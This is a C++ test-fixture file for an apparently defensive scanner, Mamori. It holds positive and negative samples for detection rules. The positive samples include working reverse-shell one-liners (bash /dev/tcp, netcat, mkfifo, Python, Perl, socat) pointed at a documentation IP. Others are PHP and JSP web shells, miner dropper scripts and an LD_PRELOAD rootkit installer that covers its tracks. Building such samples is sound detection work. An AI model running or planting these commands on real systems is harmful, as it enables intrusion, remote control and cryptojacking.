#include "rule_samples.h"

#include <initializer_list>
#include <string>
#include <string_view>
#include <vector>

// Writing rule: each sample literal is split ("..." "...") right inside the
// pattern a rule looks for. The compiler joins the pieces, but the bytes of
// this source file never contain a complete pattern, so scanning the Mamori
// source tree with its own rules stays clean (default_rules_test checks that).
// Addresses are from the documentation ranges (RFC 5737) or .invalid names.

namespace mamori::testing {
namespace {

// Text file: the lines joined with '\n', newline-terminated like a script.
std::string Lines(std::initializer_list<std::string_view> lines) {
  std::string out;
  for (std::string_view line : lines) {
    out.append(line);
    out.push_back('\n');
  }
  return out;
}

// Fake ELF: only the identification bytes (magic, 64-bit, little-endian,
// version 1) and a zeroed rest of the 64-byte header, so no loader accepts it;
// then each string NUL-terminated, as in .rodata. The rules look at the magic
// and at strings only.
std::string FakeElf(std::initializer_list<std::string_view> strings) {
  std::string elf("\x7f" "ELF" "\x02\x01\x01", 7);
  elf.resize(64, '\0');
  for (std::string_view s : strings) {
    elf.append(s);
    elf.push_back('\0');
  }
  elf.append(64, '\0');
  return elf;
}

RuleSampleSet EicarSamples() {
  const std::string eicar = EicarTestString();
  return {
      "Mamori_Test_EICAR",
      "eicar",
      {
          {"eicar_exact", eicar},
          {"eicar_crlf", eicar + "\r\n"},
          {"eicar_padded_whitespace", eicar + " \t\x1a\n"},
      },
      {
          // Quoted inside a report: not at offset 0.
          {"eicar_quoted_in_log", "av-selftest: wrote " + eicar + "\n"},
          // Followed by non-whitespace: EICAR allows only trailing whitespace.
          {"eicar_trailing_text", eicar + "; echo done\n"},
          {"eicar_truncated", eicar.substr(0, eicar.size() - 1)},
      },
  };
}

RuleSampleSet MinerConfigSamples() {
  return {
      "Mamori_Miner_XMRig_Config",
      "coinminers",
      {
          {"xmrig_config_json",
           Lines({
               "{",
               "    \"autosave\": true,",
               "    \"cpu\": { \"enabled\": true, \"huge-" "pages\": true, \"max-threads-hint\": 100 },",
               "    \"randomx\": { \"init\": -1, \"mode\": \"auto\" },",
               "    \"donate-" "level\": 0,",
               "    \"pools\": [",
               "        {",
               "            \"algo\": \"rx/0\",",
               "            \"url\": \"stratum+" "tcp://pool.example.invalid:3333\",",
               "            \"user\": \"MAMORI-TEST-WALLET\",",
               "            \"pass\": \"x\",",
               "            \"rig-" "id\": null,",
               "            \"nicehash\": false,",
               "            \"keepalive\": true,",
               "            \"tls\": false",
               "        }",
               "    ]",
               "}",
           })},
      },
      {
          // A pool dashboard config: pools/url and miner-ish keys, but no
          // donate-level (a setting only the miner itself has).
          {"pool_dashboard_config",
           Lines({
               "{",
               "    \"pools\": [",
               "        { \"url\": \"pool.example.invalid:3333\", \"algo\": \"rx/0\", \"nicehash\": false,",
               "          \"rig-" "id\": \"all\" }",
               "    ],",
               "    \"refresh\": 30",
               "}",
           })},
      },
  };
}

RuleSampleSet MinerCommandLineSamples() {
  return {
      "Mamori_Miner_CommandLine",
      "coinminers",
      {
          {"miner_cli_user_donate",
           Lines({
               "#!/bin/sh",
               "cd /tmp/.cache || exit 0",
               "./kworkerd -o stratum+" "tcp://pool.example.invalid:3333 -u MAMORITESTWALLET000000 -p x "
               "--donate-" "level=1 -B",
           })},
          {"miner_systemd_unit_algo",
           Lines({
               "[Service]",
               "ExecStart=/var/tmp/.sysd --url=stratum+" "ssl://pool.example.invalid:443 --algo rx/" "0 "
               "--max-" "cpu-usage=70",
               "Restart=always",
           })},
      },
      {
          // A pool checker pointed at a stratum URL, with no miner options.
          {"pool_checker_cli",
           Lines({
               "#!/bin/sh",
               "/usr/local/bin/pool-probe -o stratum+" "tcp://pool.example.invalid:3333 --interval 30",
           })},
      },
  };
}

RuleSampleSet MinerElfSamples() {
  return {
      "Mamori_Miner_XMRig_ELF",
      "coinminers",
      {
          {"miner_elf",
           FakeElf({"Usage: miner [OPTIONS]", "stratum+" "tcp://", "stratum+" "ssl://",
                    "      --donate-" "level=N        donate level", "cryptonight", "rx/0",
                    "randomx"})},
          {"cpuminer_elf",
           FakeElf({"stratum+" "tcp://", "mining." "subscribe", "mining." "authorize", "cryptonight"})},
      },
      {
          // Stratum proxy/monitor: scheme and algorithm names, no miner knobs.
          {"stratum_proxy_elf", FakeElf({"stratum+" "tcp://", "mining." "subscribe", "cryptonight", "rx/0"})},
      },
  };
}

RuleSampleSet MinerDropperSamples() {
  return {
      "Mamori_Miner_Dropper_Script",
      "coinminers",
      {
          {"dropper_wget_nohup",
           Lines({
               "#!/bin/sh",
               "mkdir -p /tmp/.x && cd /tmp/.x",
               "wg" "et -q http://198.51.100.23/xmrig -O /tmp/.x/xmrig",
               "ch" "mod +x /tmp/.x/xmrig",
               "no" "hup /tmp/.x/xmrig -c /tmp/.x/config.json >/dev/null 2>&1 &",
           })},
          {"dropper_curl_setsid",
           Lines({
               "#!/bin/bash",
               "cu" "rl -fsSL http://198.51.100.23/kdevtmpfsi -o /var/tmp/kdevtmpfsi",
               "ch" "mod 755 /var/tmp/kdevtmpfsi",
               "set" "sid /var/tmp/kdevtmpfsi",
           })},
      },
      {
          // The same download/chmod/nohup steps for an ordinary agent.
          {"agent_installer",
           Lines({
               "#!/bin/sh",
               "wget -q https://downloads.example.invalid/node_exporter -O /usr/local/bin/node_exporter",
               "chmod +x /usr/local/bin/node_exporter",
               "nohup /usr/local/bin/node_exporter >/var/log/node_exporter.log 2>&1 &",
           })},
      },
  };
}

RuleSampleSet PhpRequestExecSamples() {
  return {
      "Mamori_Webshell_PHP_Request_Exec",
      "webshells",
      {
          {"php_eval_post", "<?" "php @eval($_" "POST['pw']); ?>\n"},
          {"php_system_request",
           Lines({
               "<?" "php",
               "if (isset($_REQUEST['c'])) {",
               "    echo '<pre>'; SySTem(" "$_REQUEST['c']); echo '</pre>';",
               "}",
           })},
          {"php_request_function_name", "<?" "php $_GET['f']" "($_GET['a']); ?>\n"},
          {"php_backtick", "<?" "php echo `" "$_GET['cmd']`; ?>\n"},
      },
      {
          // Request input and a command in one file, never in one call.
          {"php_escaped_input",
           Lines({
               "<?" "php",
               "$name = htmlspecialchars($_GET['name'], ENT_QUOTES);",
               "echo \"Hello $name\";",
               "system('uptime');",
           })},
      },
  };
}

RuleSampleSet PhpEncodedEvalSamples() {
  return {
      "Mamori_Webshell_PHP_Encoded_Eval",
      "webshells",
      {
          // The payload decodes to: echo 'mamori test';
          {"php_eval_gzinflate_base64",
           "<?" "php eval(gzinflate(base64_" "decode('ZWNobyAnbWFtb3JpIHRlc3QnOw=='))); ?>\n"},
          {"php_create_function_base64",
           "<?" "php $f = create_function(''," " base64_decode('ZWNobyAnbWFtb3JpIHRlc3QnOw==')); $f(); ?>\n"},
      },
      {
          // Decoding data is normal; only executing the result is flagged.
          {"php_decode_json", "<?" "php $cfg = json_decode(base64_" "decode($blob), true); ?>\n"},
      },
  };
}

RuleSampleSet PhpPregReplaceSamples() {
  return {
      "Mamori_Webshell_PHP_Preg_Replace_Eval",
      "webshells",
      {
          {"php_preg_replace_e_post", "<?" "php preg_replace('/.*/" "e', $_POST['code'], ''); ?>\n"},
      },
      {
          // Legacy /e with a fixed replacement, and request data without /e.
          {"php_preg_replace_e_fixed",
           Lines({
               "<?" "php",
               "$s = preg_replace('/(\\w+)/" "e', 'strtoupper(\"\\\\1\")', $input);",
               "$t = preg_replace('/[^a-z]/i', '', $_POST['name']);",
           })},
      },
  };
}

RuleSampleSet JspExecSamples() {
  return {
      "Mamori_Webshell_JSP_Runtime_Exec",
      "webshells",
      {
          {"jsp_direct_exec", "<% Runtime.getRuntime().exec(" "request.getParameter(\"cmd\")); %>\n"},
          {"jsp_two_step",
           Lines({
               "<%" "@ page import=\"java.io.*\" %>",
               "<%" " String c = request.getParameter(\"c\");",
               "   if (c != null) {",
               "     Process p = Runtime.getRuntime()" ".exec(c);",
               "     InputStream in = p.getInput" "Stream();",
               "     int b; while ((b = in.read()) != -1) out.print((char) b);",
               "   } %>",
           })},
      },
      {
          // A page echoing a parameter: request input, nothing executed.
          {"jsp_echo_param",
           Lines({
               "<%" "@ page contentType=\"text/html\" %>",
               "<%" " String n = request.getParameter(\"name\"); %>",
               "<p>Hello <%= org.owasp.encoder.Encode.forHtml(n) %></p>",
           })},
      },
  };
}

RuleSampleSet BashDevTcpSamples() {
  return {
      "Mamori_RevShell_Bash_DevTcp",
      "reverse_shells",
      {
          {"bash_i_dev_tcp", Lines({"#!/bin/sh", "bash -i >& /dev/" "tcp/203.0.113.7/4444 0>&1"})},
          {"sh_i_dev_udp", Lines({"* * * * * root sh -i 5<> /dev/" "udp/203.0.113.7/53 0<&5 1>&5 2>&5"})},
          {"exec_fd_shell", Lines({"0<&196;exec 196<>/dev/" "tcp/203.0.113.7/4444; sh <&196 >&196 2>&196"})},
          {"exec_fd_read_loop",
           Lines({
               "exec 5<>/dev/" "tcp/203.0.113.7/4444",
               "cat <&5 | while read line; do $line 2>&" "5 >&5; done",
           })},
      },
      {
          // A pure-bash HTTP health check: opens /dev/tcp, runs no shell on it.
          {"bash_http_healthcheck",
           Lines({
               "#!/bin/bash",
               "exec 3<>/dev/" "tcp/127.0.0.1/8080",
               "printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3",
               "grep -q '200 OK' <&3",
           })},
      },
  };
}

RuleSampleSet NetcatExecSamples() {
  return {
      "Mamori_RevShell_Netcat_Exec",
      "reverse_shells",
      {
          {"nc_e_sh", Lines({"nc -e /bin/" "sh 203.0.113.7 4444"})},
          {"nc_traditional_trailing_e", Lines({"nc.traditional 203.0.113.7 4444 -e /bin/" "bash"})},
          {"ncat_sh_exec", Lines({"ncat 203.0.113.7 4444 --sh-exec '" "bash -i'"})},
      },
      {
          // Port probe and file transfer: netcat without a shell attached.
          {"nc_probe_and_copy",
           Lines({
               "nc -z -w 3 db.example.invalid 5432 && echo up",
               "nc -l 9000 > /srv/backup/incoming.tar",
           })},
      },
  };
}

RuleSampleSet MkfifoSamples() {
  return {
      "Mamori_RevShell_Mkfifo_Pipe",
      "reverse_shells",
      {
          {"mkfifo_sh_nc",
           Lines({"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|" "nc 203.0.113.7 4444 >/tmp/f"})},
          {"mknod_sh_nc",
           Lines({"mknod /tmp/backpipe p; /bin/sh 0</tmp/backpipe |" " nc 203.0.113.7 4444 1>/tmp/backpipe"})},
          {"mkfifo_openssl",
           Lines({"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 |"
                  " openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"})},
      },
      {
          // FIFOs used for logs and progress: no shell piped to the network.
          {"mkfifo_log_pipe",
           Lines({
               "mkfifo /tmp/logpipe; nc -l 5140 > /tmp/logpipe &",
               "mkfifo /tmp/progress; tar cf - /srv/data | pv > /tmp/progress &",
           })},
      },
  };
}

RuleSampleSet PythonSocketSamples() {
  return {
      "Mamori_RevShell_Python_Socket",
      "reverse_shells",
      {
          {"python_one_liner_pty",
           Lines({"python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                  "s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
                  "os.dup2(s.fileno(),2);pty.spawn(" "\"/bin/bash\")'"})},
          {"python_script_subprocess",
           Lines({
               "import socket, subprocess, os",
               "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
               "s.connect((\"203.0.113.7\", 4444))",
               "os.dup2(s.fileno(), 0)",
               "os.dup2(s.fileno(), 1)",
               "os.dup2(s.fileno(), 2)",
               "p = subprocess.call([" "\"/bin/sh\", \"-i\"])",
           })},
      },
      {
          // A socket client that never touches stdio.
          {"python_socket_client",
           Lines({
               "import socket, subprocess",
               "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
               "s.connect((\"db.example.invalid\", 5432))",
               "s.sendall(b'ping')",
               "subprocess.call([\"/bin/sh\", \"-c\", \"logger ping sent\"])",
           })},
      },
  };
}

RuleSampleSet PerlSocketSamples() {
  return {
      "Mamori_RevShell_Perl_Socket",
      "reverse_shells",
      {
          {"perl_socket_exec",
           Lines({"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;"
                  "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                  "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&" "S\");open(STDOUT,\">&" "S\");"
                  "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"})},
          {"perl_io_socket",
           Lines({"perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(" "PeerAddr,\"203.0.113.7:4444\");"
                  "STDIN->fdopen(" "$c,r);$~->fdopen($c,w);system$_ " "while<>;'"})},
      },
      {
          // An HTTP probe over a raw socket with the usual STDERR-to-STDOUT dup.
          {"perl_http_probe",
           Lines({
               "use Socket;",
               "socket(S, PF_INET, SOCK_STREAM, 6) or die;",
               "connect(S, sockaddr_in(80, inet_aton($host))) or die;",
               "open(STDERR, \">&STDOUT\");",
               "print S \"GET / HTTP/1.0\\r\\n\\r\\n\";",
           })},
      },
  };
}

RuleSampleSet SocatSamples() {
  return {
      "Mamori_RevShell_Socat_Exec",
      "reverse_shells",
      {
          {"socat_exec_pty_tcp",
           Lines({"socat ex" "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"})},
          {"socat_tcp_exec_sh", Lines({"socat TCP4:203.0.113.7:4444 " "EXEC:/bin/sh"})},
      },
      {
          // Port forwarding and an ssh wrapper: socat without a shell endpoint.
          {"socat_forward",
           Lines({
               "socat TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:80",
               "socat - EXEC:'ssh -l backup vault.example.invalid',pty,setsid,ctty",
           })},
      },
  };
}

RuleSampleSet MiraiSamples() {
  return {
      "Mamori_Linux_Mirai_Bot",
      "linux_malware",
      {
          {"mirai_elf",
           FakeElf({"/dev/watchdog", "/dev/misc/watchdog", "/bin/busybox MMTEST", ": applet not found", "xc3511",
                    "vizxv", "7ujMko0admin", "Zte521", "ncorrect"})},
          {"mirai_attack_elf",
           FakeElf({"/dev/watchdog", ": applet not found", "ncorrect", "TSource Engine Query"})},
      },
      {
          // busybox-like binary: watchdog and applet strings, no credentials.
          {"busybox_like_elf", FakeElf({"/dev/watchdog", "/bin/busybox", ": applet not found", "ncorrect", "login: "})},
          // A threat report quoting the strings: text, not an ELF image.
          {"mirai_report_text",
           Lines({"Indicators: /dev/watchdog, /dev/misc/watchdog, \"/bin/busybox MMTEST\", \": applet not found\",",
                  "credentials xc3511 vizxv 7ujMko0admin Zte521, prompt check \"ncorrect\"."})},
      },
  };
}

RuleSampleSet XorDdosSamples() {
  return {
      "Mamori_Linux_XorDDoS",
      "linux_malware",
      {
          {"xorddos_paths_elf",
           FakeElf({"/etc/cron.hourly/gcc.sh", "/var/run/gcc.pid", "/lib/libudev.so.6", "HidePidPort"})},
          {"xorddos_functions_elf",
           FakeElf({"InstallSYS", "DelService_form_pid", "ChangetoDnsNameFormat", "build_syn_packet"})},
      },
      {
          // One path and two function names: below every threshold.
          {"xorddos_partial_elf", FakeElf({"/var/run/gcc.pid", "encrypt_code", "build_syn_packet"})},
      },
  };
}

RuleSampleSet TsunamiSamples() {
  return {
      "Mamori_Linux_Tsunami_Kaiten",
      "linux_malware",
      {
          {"kaiten_elf",
           FakeElf({"NOTICE %s :", "TSUNAMI <target> <secs>", "PAN <target> <port> <secs>",
                    "UDP <target> <port> <secs>", "GETSPOOFS", "Kills all current packeting", "NICK <nick>"})},
      },
      {
          // An IRC client: the same message formats, a couple of commands.
          {"irc_client_elf", FakeElf({"PRIVMSG %s :", "NOTICE %s :", "NICK <nick>", "SERVER <server>"})},
      },
  };
}

RuleSampleSet GafgytSamples() {
  return {
      "Mamori_Linux_Gafgyt_Bot",
      "linux_malware",
      {
          {"gafgyt_elf",
           FakeElf({"LOLNOGTFO", "GETLOCALIP", "KILLATTK", "My IP: %s", "Failed opening raw socket."})},
      },
      {
          // A raw-socket tool: error messages alone, no C2 vocabulary.
          {"raw_socket_tool_elf", FakeElf({"BOGOMIPS", "Failed opening raw socket.", "Invalid flag \"%s\""})},
      },
  };
}

RuleSampleSet LdPreloadElfSamples() {
  return {
      "Mamori_Linux_LdPreload_Rootkit_ELF",
      "linux_malware",
      {
          {"preload_rootkit_elf",
           FakeElf({"/etc/ld.so.preload", "dlsym", "readdir64", "fopen64", "__lxstat", "/proc/net/tcp",
                    "/proc/self/fd/%d", "LD_PRELOAD"})},
      },
      {
          // What the dynamic loader itself carries: the preload path, no hooks.
          {"loader_like_elf", FakeElf({"/etc/ld.so.preload", "LD_PRELOAD", "dlsym", "/proc/self/fd/%d"})},
      },
  };
}

RuleSampleSet LdPreloadInstallerSamples() {
  return {
      "Mamori_Linux_LdPreload_Installer",
      "linux_malware",
      {
          {"preload_installer_echo_chattr",
           Lines({
               "#!/bin/sh",
               "cp ./libmamori_test.so /usr/lib/libsysd.so",
               "echo /usr/lib/libsysd.so > /etc/ld.so." "preload",
               "chattr +i /etc/ld.so." "preload",
               "history -" "c",
           })},
          {"preload_installer_tee_touch",
           Lines({
               "echo /lib/x86_64-linux-gnu/libnss_cache.so | tee -a /etc/ld.so." "preload",
               "touch -r /etc/hostname /etc/ld.so." "preload",
           })},
      },
      {
          // An admin enabling a preload logger openly: no track covering.
          {"preload_logger_enable",
           Lines({
               "#!/bin/sh",
               "[ -s /etc/ld.so.preload ] && cat /etc/ld.so.preload",
               "echo /usr/lib/libsnoopy.so >> /etc/ld.so." "preload",
           })},
      },
  };
}

}  // namespace

std::string EicarTestString() {
  return std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}") + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
}

std::vector<RuleSampleSet> DefaultRuleSampleSets() {
  return {
      EicarSamples(),
      MinerConfigSamples(),
      MinerCommandLineSamples(),
      MinerElfSamples(),
      MinerDropperSamples(),
      PhpRequestExecSamples(),
      PhpEncodedEvalSamples(),
      PhpPregReplaceSamples(),
      JspExecSamples(),
      BashDevTcpSamples(),
      NetcatExecSamples(),
      MkfifoSamples(),
      PythonSocketSamples(),
      PerlSocketSamples(),
      SocatSamples(),
      MiraiSamples(),
      XorDdosSamples(),
      TsunamiSamples(),
      GafgytSamples(),
      LdPreloadElfSamples(),
      LdPreloadInstallerSamples(),
  };
}

}  // namespace mamori::testing
